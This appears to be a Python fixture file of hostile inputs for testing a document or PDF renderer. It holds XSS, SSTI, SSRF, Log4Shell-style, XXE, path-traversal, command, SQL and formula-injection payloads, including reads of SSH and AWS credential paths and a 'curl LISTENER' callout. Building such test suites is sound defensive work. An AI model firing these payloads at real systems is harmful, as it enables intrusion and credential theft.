r"""Hostile names by the language that they attack, and hostile drawings; one per line.

`/CANARY` stands for the path of a file and `LISTENER` for an address on this machine; neither may be accessed.
"""

_HTML = r"""
<b>Bob</b>
<script>alert(1)</script>
<img src=/CANARY>
<img src=x onerror=alert(1)>
<picture><source srcset=/CANARY></picture>
<iframe srcdoc="<img src=/CANARY>">
<object data=file:///CANARY></object>
<embed src=file:///CANARY>
<link rel=stylesheet href=/CANARY>
<link rel=attachment href=file:///CANARY>
<a rel=attachment href=file:///CANARY>x</a>
<a href=javascript:alert(1)>x</a>
<a href=#holder-slot>x</a>
<base href=file:///>
<meta charset=utf-7>
</title><title>Forged</title>
</h2></div></body></html><h1>2
</p><div id=title-slot>
--><script>1</script><!--
<!-- swallowed
<![CDATA[ swallowed ]]>
<!DOCTYPE html SYSTEM "file:///CANARY">
<?php system('id') ?>
<plaintext>
<textarea><noscript>
<template><slot name=x>
<details open ontoggle=alert(1)>
<marquee>running</marquee>
<h2 id=holder style=display:none>
"><img src=/CANARY>
' onmouseover='alert(1)
" dir=rtl lang=x data-x="
x" id="title-slot
`<img src=/CANARY>`
&lt;b&gt; &amp;amp; &#60;i&#62;
&#x3c;script&#x3e; &lt script &gt
&#0; &#xD800; &#x110000; &nbsp;
<<b>>double<</b>>
< b >spaced< / b >
"""

_CSS = r"""
@import url(file:///CANARY);
@import'\66ile:///CANARY';
@font-face{src:local(x),url(//LISTENER/f)}
@page{@top-left{content:"forged"}}
@media print{*{display:none}}
@charset "utf-7";
}*{display:none}
;background:u\72l(/CANARY)
;content:url(/CANARY)
;content:attr(href url)
;cursor:url(/CANARY),auto
;border-image:url(/CANARY) 9
;mask:url(/CANARY#m)
;filter:url(/CANARY#f)
;src:url(/CANARY)
;color:expression(alert(1))
;width:calc(1px*1e99)
;font-size:9999999em
;font-size:0;color:#fff
;letter-spacing:-9e9px
;transform:scale(1e9)
;position:fixed;top:0
;position:running(x)
;page-break-before:always
;break-before:page;page:x
;columns:9999
;bookmark-label:"x"
;string-set:x content()
;--x:var(--x);color:var(--x)
;counter-reset:x 999999999
;quotes:"\27""\22"
/* swallowed
*/ }
\0000 \75\72\6c(/CANARY)
!important
"""

_SVG = r"""
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><image href=file:///CANARY /></svg>
<svg><style>@import url(/CANARY)</style>
<svg viewBox="0 0 1e99 1e99">
<svg xmlns="x" xml:base="file:///">
<svg/></svg><svg/onload=x>
]]><svg><![CDATA[
</svg><path d="M0 0h9"/>
<path d="M913000000 0">
913000000 0 m
"""

_ADDRESSES = r"""
file:///CANARY
file:/CANARY
FILE:///CANARY
file:///CANARY?x#y
file:///%43ANARY
file:///proc/self/environ
file:///proc/self/cmdline
file:///dev/zero
file://C:/Windows/win.ini
url(file:///CANARY)
view-source:file:///CANARY
http://LISTENER/
http://user:pass@LISTENER/
http://169.254.169.254/latest/meta-data/
http://[::1]/
http://[::ffff:127.0.0.1]/
http://0x7f000001/
http://localhost.evil.example/
https://evil.example/?q=<b>
https:evil.example
//LISTENER/x
///LISTENER/x
/\LISTENER/x
\\LISTENER\share\x
\\?\UNC\LISTENER\x
ftp://LISTENER/x
gopher://LISTENER/_x
dict://LISTENER/x
ldap://LISTENER/x
${jndi:ldap://LISTENER/x}
smb://LISTENER/x
ws://LISTENER/x
jar:file:///CANARY!/x
phar:///CANARY
expect://id
data:text/html,<script>1</script>
data:image/svg+xml;base64,PHN2Zy8+
data:,x
javascript:alert(1)
java	script:alert(1)
vbscript:msgbox(1)
blob:null/0
about:blank
mailto:x@evil.example
cid:logo
https://design.invalid/logo
intent://x#Intent;end
unix:///var/run/docker.sock
s3://bucket/key
"""

_TEMPLATES = r"""
{{ 7*7 }}
{{7*'7'}}
{{ config }}
{{ self }}
{{ holder }}{{ title }}
{{ words.course }}
{{ ''.__class__.__mro__ }}
{{ cycler.__init__.__globals__.os }}
{{ lipsum.__globals__['os'].popen('id').read() }}
{{ joiner|attr('__class__') }}
{{ namespace(x=1) }}
{{ undefined_name }}
{{ 1/0 }}
{{ range(999999999)|list }}
{{ 'x'*999999999 }}
{% include '/CANARY' %}
{% import '/CANARY' as x %}
{% extends "layout" %}
{% raw %}
{% endraw %}{{ 1 }}
{% if 1 %}
{% block x %}{% endblock %}
{% autoescape false %}<b>
{% set words = 1 %}
{# swallowed #}
{# swallowed
#}
{%- -%}
# for x in y
${7*7}
#{7*7}
<%= 7*7 %>
[[7*7]]
@(7*7)
{{=<% %>=}}
{{{x}}}
"""

_FORMATS = r"""
{company}
{}
{0}
{0.__class__}
{company!r:>999999999}
{company:{company}}
{day} {month} {year}
{
}
{{
}}
%s%s%s%n
%(company)s
%999999999d
%x%x%00%0a
$company ${company}
\N{BULLET} \x41 \101
\
\\
\n\r\0
"""

_PDF = r"""
) Tj ET (
(unbalanced
)))
\) \( \\
\050 \051 \134
<< /JS (app.alert(1)) >>
/JS (app.alert(1)) /S /JavaScript
/OpenAction << /S /JavaScript >>
) /OpenAction 1 0 R (
>> /AA << /O 1 0 R >>
/S /Launch /F (/CANARY)
/F (/CANARY) /Type /EmbeddedFile
/S /GoToR /F (/CANARY)
/XFA 1 0 R /AcroForm 1 0 R
endstream endobj
endstream endobj 9 0 obj << >>
endobj trailer << /Root 9 0 R >>
startxref 0 %%EOF
%%EOF
%PDF-1.7
xref 0 1 0000000000 65535 f
stream
q 1 0 0 1 0 0 cm Q
BT /F1 12 Tf (forged) Tj ET
[(x)] TJ
<48656c6c6f> Tj
/x0 Do
BI /W 9999 /H 9999 ID x EI
BX EX BDC EMC EMC EMC
<feff0041>
#2F#4A#53
1 0 R
% comment
"""

_XML = r"""
<!DOCTYPE x [<!ENTITY e "boom">]>&e;
<!ENTITY l1 "&l0;&l0;&l0;&l0;">
&e;&l9;&lol;
%p;
&xxe; &#x26;#x3c;
<?xml version="1.0"?><x/>
<?xpacket end="w"?>
</rdf:li></rdf:Alt></dc:title>
</x:xmpmeta><x:xmpmeta>
<pdfaid:part>9</pdfaid:part>
]]>
<!--
-->
"""

_PATHS = r"""
/CANARY
../../../../../../CANARY
..%2f..%2f..%2fCANARY
..%252f..%252fCANARY
....//....//CANARY
..\..\..\CANARY
./signature.svg
../pdf.py
../../../etc/passwd
/etc/passwd%00.png
/etc/passwd
/proc/self/environ
/proc/self/fd/0
~/.aws/credentials
~root
$HOME/.ssh/id_rsa
C:\Windows\win.ini
CON PRN AUX NUL
certificates/../../1.pdf
*?[!a]
"""

_COMMANDS = r"""
; cat /CANARY
| id
`id`
$(id)
&& curl LISTENER
' OR '1'='1
"; DROP TABLE x; --
*)(uid=*))(|(uid=*
=cmd|'/c calc'!A1
@SUM(1+1)
__import__('os').system('id')
cos system (S'id' tR.
() { :;}; id
{"$ne": null}
--help
null
undefined
NaN
True
-0
"""

_UNICODE = [
    "\u202eevil\u202c",  # overrides the direction
    "abc\u202etxt.exe",
    "\u2066\u2067\u2068\u2069isolated",
    "\u202a\u202b\u202c\u202d",
    "\u200e\u200f\u061cmarked",
    "\u05d0\u05d1 <b> abc \u0627\u0644",  # both directions and markup
    "\u05d0" + "(" * 70,
    "A\u200bB\u200cC\u200dD\u2060E\ufeffF",  # zero width
    "\u200b\u200b",
    "\u00ad" * 40,
    "\u034f\u034f\u034f",
    "\u115f\u1160\u3164\uffa0",  # fillers
    "\u2800\u2800",
    "\u00a0\u1680\u2000\u2028\u2029\u3000",
    "one\u2028two\u2029three\u0085four\x0bfive\x0csix",
    "tab\tline\nreturn\rnull\x00bell\x07escape\x1b[31m",
    "\x1b]0;forged\x07",
    "\x7f\x80\x9f",
    "\ud800lone",  # surrogates
    "lone\udfff",
    "\udc80\ud800",
    "\ud83d \ude00",
    "\ufffe\uffff\ufdd0",  # noncharacters
    "\U0001ffff\U0010ffff",
    "\ue000\uf8ff",  # private use
    "\U000f0000\U0010fffd",
    "\ufff9a\ufffab\ufffb",  # annotations
    "\ufffc\ufffd",
    "\U000e0041\U000e0042tags",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",  # a flag of tags
    "A\ufe0eB\ufe0f\U000e0100\U000e01ef",  # variation selectors
    "\u180b\u180e\u180f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # a family
    "\U0001f1f3\U0001f1f4\U0001f1ea",
    "\U0001f44d\U0001f3ff\U0001f3fb",
    "1\ufe0f\u20e3#\u20e3",
    "\u0410dmin \u0440aypal \u217f\u0456crosoft",  # lookalikes
    "\uff1cscript\uff1e\uff07\uff02",  # full-width markup
    "\ufe64b\ufe65 \u02bciframe\u02ba",
    "\u212aelvin \u0130\u0131 \u1e9e\u00df",  # case mapping changes the length
    "\ufdfa\ufdfa\ufdfa",  # one character that expands to a sentence
    "\ufb01\ufb03\u01c4\u0149",
    "\u1d400\u24b6\u3392\u33c2",
    "".join(letter + "\u0301\u0302\u0303\u0323\u0330" for letter in "zalgo"),
    "z" + "\u0336\u0489" * 40,
    "a" + "\u0300" * 400,
    "\u0300\u0301 marks without a letter",
    "\u0915\u094d" * 20,  # stacks
    "\u0f40\u0f90\u0f90\u0f90",
    "\u1000\u1039\u1000\u1039\u1000\u1039",
    "\u1100" * 20 + "\u1161" * 20 + "\u11a8" * 20,
    "\u0644\u0627" * 30 + "\u0651\u064e",
    "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",  # crashed phones in 2018
    "\u0963\u0300\u0323\u0344\u0958",  # NFC decomposes these
    "\u1e0b\u0323 \u0041\u030a \u2126",
    "\u2044\u20dd\u20e0\u0488",
    "\u2062\u2063\u206a\u206f",
    "\U0001d173\U0001d17a",
    "\u3030\u303d\u3299",
    "\U00013000\U00012000",
    "\ua9c5\ua9c5",
]

_LONG = [
    "W" * 200,
    "a-" * 90,
    "".join(chr(0xAC00 + n) for n in range(0, 9000, 90)),
    "a\u0430\u05d0\u0627\u0915\u0e01\u4e00\u1100\u0531\u10d0" * 9,  # a letter of each script
]

TOO_LONG = {
    "letters": "x" * 1_000_000,
    "words": "x " * 50_000,
    "markup": "<b>" * 20_000,
    "braces": "{{" * 20_000,
    "marks": "a" + "\u0301" * 100_000,
    "marked letters": "a\u0301\u0302" * 20_000,
    "joined": "\u200d".join("\U0001f468" * 20_000),
    "stacked": "\u0f40" + "\u0f90" * 20_000,
    "embeddings": "\u202a" * 20_000 + "x",
    "brackets": "(" * 20_000,
}

TEXTS: dict[str, list[str]] = {
    **{
        kind: lines.strip("\n").split("\n")
        for kind, lines in {
            "html": _HTML,
            "css": _CSS,
            "svg": _SVG,
            "address": _ADDRESSES,
            "template": _TEMPLATES,
            "format": _FORMATS,
            "pdf": _PDF,
            "xml": _XML,
            "path": _PATHS,
            "command": _COMMANDS,
        }.items()
    },
    "unicode": _UNICODE,
    "long": _LONG,
}

DRAWINGS = r"""
<image href="file:///CANARY" width="9" height="9"/>
<image xlink:href="/CANARY" width="9" height="9"/>
<image href="http://LISTENER/" width="9" height="9"/>
<image href="logo" width="9" height="9"/>
<image href="signature.svg" width="9" height="9"/>
<g display="inline"><image href="file:///proc/self/environ" width="9" height="9"/></g>
<svg><image href="/CANARY" width="9" height="9"/></svg>
<switch><image href="/CANARY" width="9" height="9"/></switch>
<use href="file:///CANARY#x"/>
<use xlink:href="http://LISTENER/#x"/>
<use href=" &#9;/CANARY#x"/>
<use href="#x" xlink:href="/CANARY#x"/>
<linearGradient id="g" xlink:href="/CANARY#x"/><rect width="9" height="9" fill="url(#g)"/>
<rect width="9" height="9" fill="url(/CANARY#g)"/>
<rect width="9" height="9" stroke="url('/CANARY#g') red"/>
<rect width="9" height="9" clip-path="url(/CANARY#c)"/>
<rect width="9" height="9" mask="url(/CANARY#m)"/>
<rect width="9" height="9" filter="url(/CANARY#f)"/>
<path d="M0 0h9" marker-mid="url(http://LISTENER/#m)"/>
<rect width="9" height="9" style="fill:u\72l(/CANARY)"/>
<rect width="9" height="9" style="fill:image-set('/CANARY' 1x)"/>
<rect width="9" height="9" fill="var(--x, url(/CANARY))"/>
<rect width="9" height="9" fill="context-fill"/>
<rect width="9" height="9" fill="red icc-color(/CANARY)"/>
<style>@import url(/CANARY);</style><rect width="9" height="9"/>
<style>@import "http://LISTENER/";rect{fill:red}</style><rect width="9" height="9"/>
<style><![CDATA[@font-face{font-family:x;src:url(/CANARY)}]]></style><rect width="9" height="9"/>
<style>rect{fill:url(/CANARY)}</style><rect width="9" height="9"/>
<style>/**/rect{fill:red;background:url(/CANARY)}</style><rect width="9" height="9"/>
<style>rect{fill:red}&lt;/style&gt;&lt;script&gt;</style><rect width="9" height="9"/>
<style>rect{fill:red}<script>x</script></style><rect width="9" height="9"/>
<x:style xmlns:x="http://www.w3.org/1999/xhtml">@import url(/CANARY);</x:style><rect width="9" height="9"/>
<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="/CANARY"/><rect width="9" height="9"/>
<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/CANARY" parse="text"/><rect width="9" height="9"/>
<foreignObject width="9" height="9"><x xmlns="http://www.w3.org/1999/xhtml">x</x></foreignObject>
<handler type="application/ecmascript">x()</handler><rect width="9" height="9"/>
<script type="text/ecmascript" xlink:href="http://LISTENER/"/><rect width="9" height="9"/>
<SCRIPT>x()</SCRIPT><rect width="9" height="9"/>
<!--><script>x()</script>--><rect width="9" height="9"/>
<?php system("id") ?><rect width="9" height="9"/>
<?xml-stylesheet href="/CANARY"?><rect width="9" height="9"/>
<audio href="/CANARY"/><rect width="9" height="9"/>
<video href="/CANARY"/><rect width="9" height="9"/>
<color-profile xlink:href="/CANARY"/><rect width="9" height="9"/>
<font><font-face><font-face-src><font-face-uri href="/CANARY"/></font-face-src></font-face></font><line/>
<a href="file:///CANARY"><rect width="9" height="9"/></a>
<a href="http://LISTENER/" ping="http://LISTENER/"><rect width="9" height="9"/></a>
<rect width="9" height="9"><animate attributeName="href" values="/CANARY"/></rect>
<rect width="9" height="9"><set attributeName="fill" to="url(/CANARY)"/></rect>
<rect width="9" height="9"><title>) Tj ET (</title><desc>{{ 7*7 }}</desc></rect>
<rect width="9" height="9" id=") /JS (x" class="/OpenAction" aria-label="endstream"/>
<linearGradient id=") Tj ET ("><stop/><stop offset="1"/></linearGradient><rect width="9" height="9" fill="url(#x)"/>
<text>x</text>
<text><textPath href="/CANARY#p">x</textPath></text>
<text font-family="url(/CANARY)" font-size="1e9">x</text>
<symbol id="s"><image href="/CANARY"/></symbol><use href="#s"/>
<pattern id="p"><image href="/CANARY"/></pattern><rect width="9" height="9" fill="url(#p)"/>
<marker id="m"><path marker-end="url(#m)" d="M0 0h9"/></marker><path marker-end="url(#m)" d="M0 0h9"/>
<mask id="m"><image href="/CANARY"/></mask><rect width="9" height="9" mask="url(#m)"/>
<filter id="f"><feImage href="/CANARY"/></filter><rect width="9" height="9" filter="url(#f)"/>
<filter id="f"><feTurbulence numOctaves="99999"/></filter><rect width="9" height="9" filter="url(#f)"/>
<defs><image href="/CANARY"/></defs><rect width="9" height="9"/>
<g display="none"><image href="/CANARY"/></g><rect width="9" height="9"/>
<metadata><x xmlns="file:///CANARY">/CANARY</x></metadata><rect width="9" height="9"/>
<rect width="9" height="9" stroke="red" stroke-width="1e308"/>
<rect width="9" height="9" stroke="red" stroke-width="999999" stroke-miterlimit="999999"/>
<rect width="9" height="9" stroke="red" stroke-miterlimit="-1"/>
<rect width="999999" height="999999" rx="999999"/>
<rect x="-999999" y="999999" width="1" height="1"/>
<rect width="9" height="9" transform="scale(999999) scale(999999) scale(999999)"/>
<rect width="9" height="9" transform="rotate(1e308)"/>
<rect width="9" height="9" transform="matrix(nan 0 0 inf 0 0)"/>
<rect width="1e-320" height="9" opacity=".5"/>
<circle r="inf"/>
<ellipse rx="9" ry="-9" opacity="-1"/>
<line x2="1e9"/>
<polygon points="NaN,NaN 1,1 2,2"/>
<path d="M0 0A1e308 1e308 0 0 0 1 1"/>
<path d="M0 0A1e-308 1e-308 0 0 0 1 1"/>
<path d="M0 0A 999999 .000001 45 1 1 999999 999999"/>
<path d="M0 0L1 1) Tj ET ("/>
<path d="M0 0h9v9z" fill="#ffffff) /JS (x"/>
<path d="M0 0h9v9z" fill="rgb(1e9,0,0)"/>
<path d="M0 0h9v9z" fill="hsl(nan,0%,0%)"/>
<path d="M0 0h9v9z" fill="red" stroke-dasharray="0 0 0"/>
<path d="M0 0h9v9z" fill="&#x75;rl(/CANARY)"/>
<rect width="9" height="9" fill="&#xff52;ed"/>
<rect width="&#x669;" height="&#x669;"/>
<rect width="9" height="9" xml:base="file:///" xlink:actuate="onLoad" xlink:href="/CANARY"/>
<radialGradient id="g" r="0" fr="9"><stop/><stop offset="1"/></radialGradient><circle r="9" fill="url(#g)"/>
<linearGradient id="g" x2="1e-6"><stop/><stop offset="0"/></linearGradient><rect width="9" height="9" fill="url(#g)"/>
<linearGradient id="g"><stop offset="9"/><stop offset="-9"/></linearGradient><rect width="9" height="9" fill="url(#g)"/>
<clipPath id="c"/><rect width="9" height="9" clip-path="url(#c)"/>
""".strip("\n").split("\n")
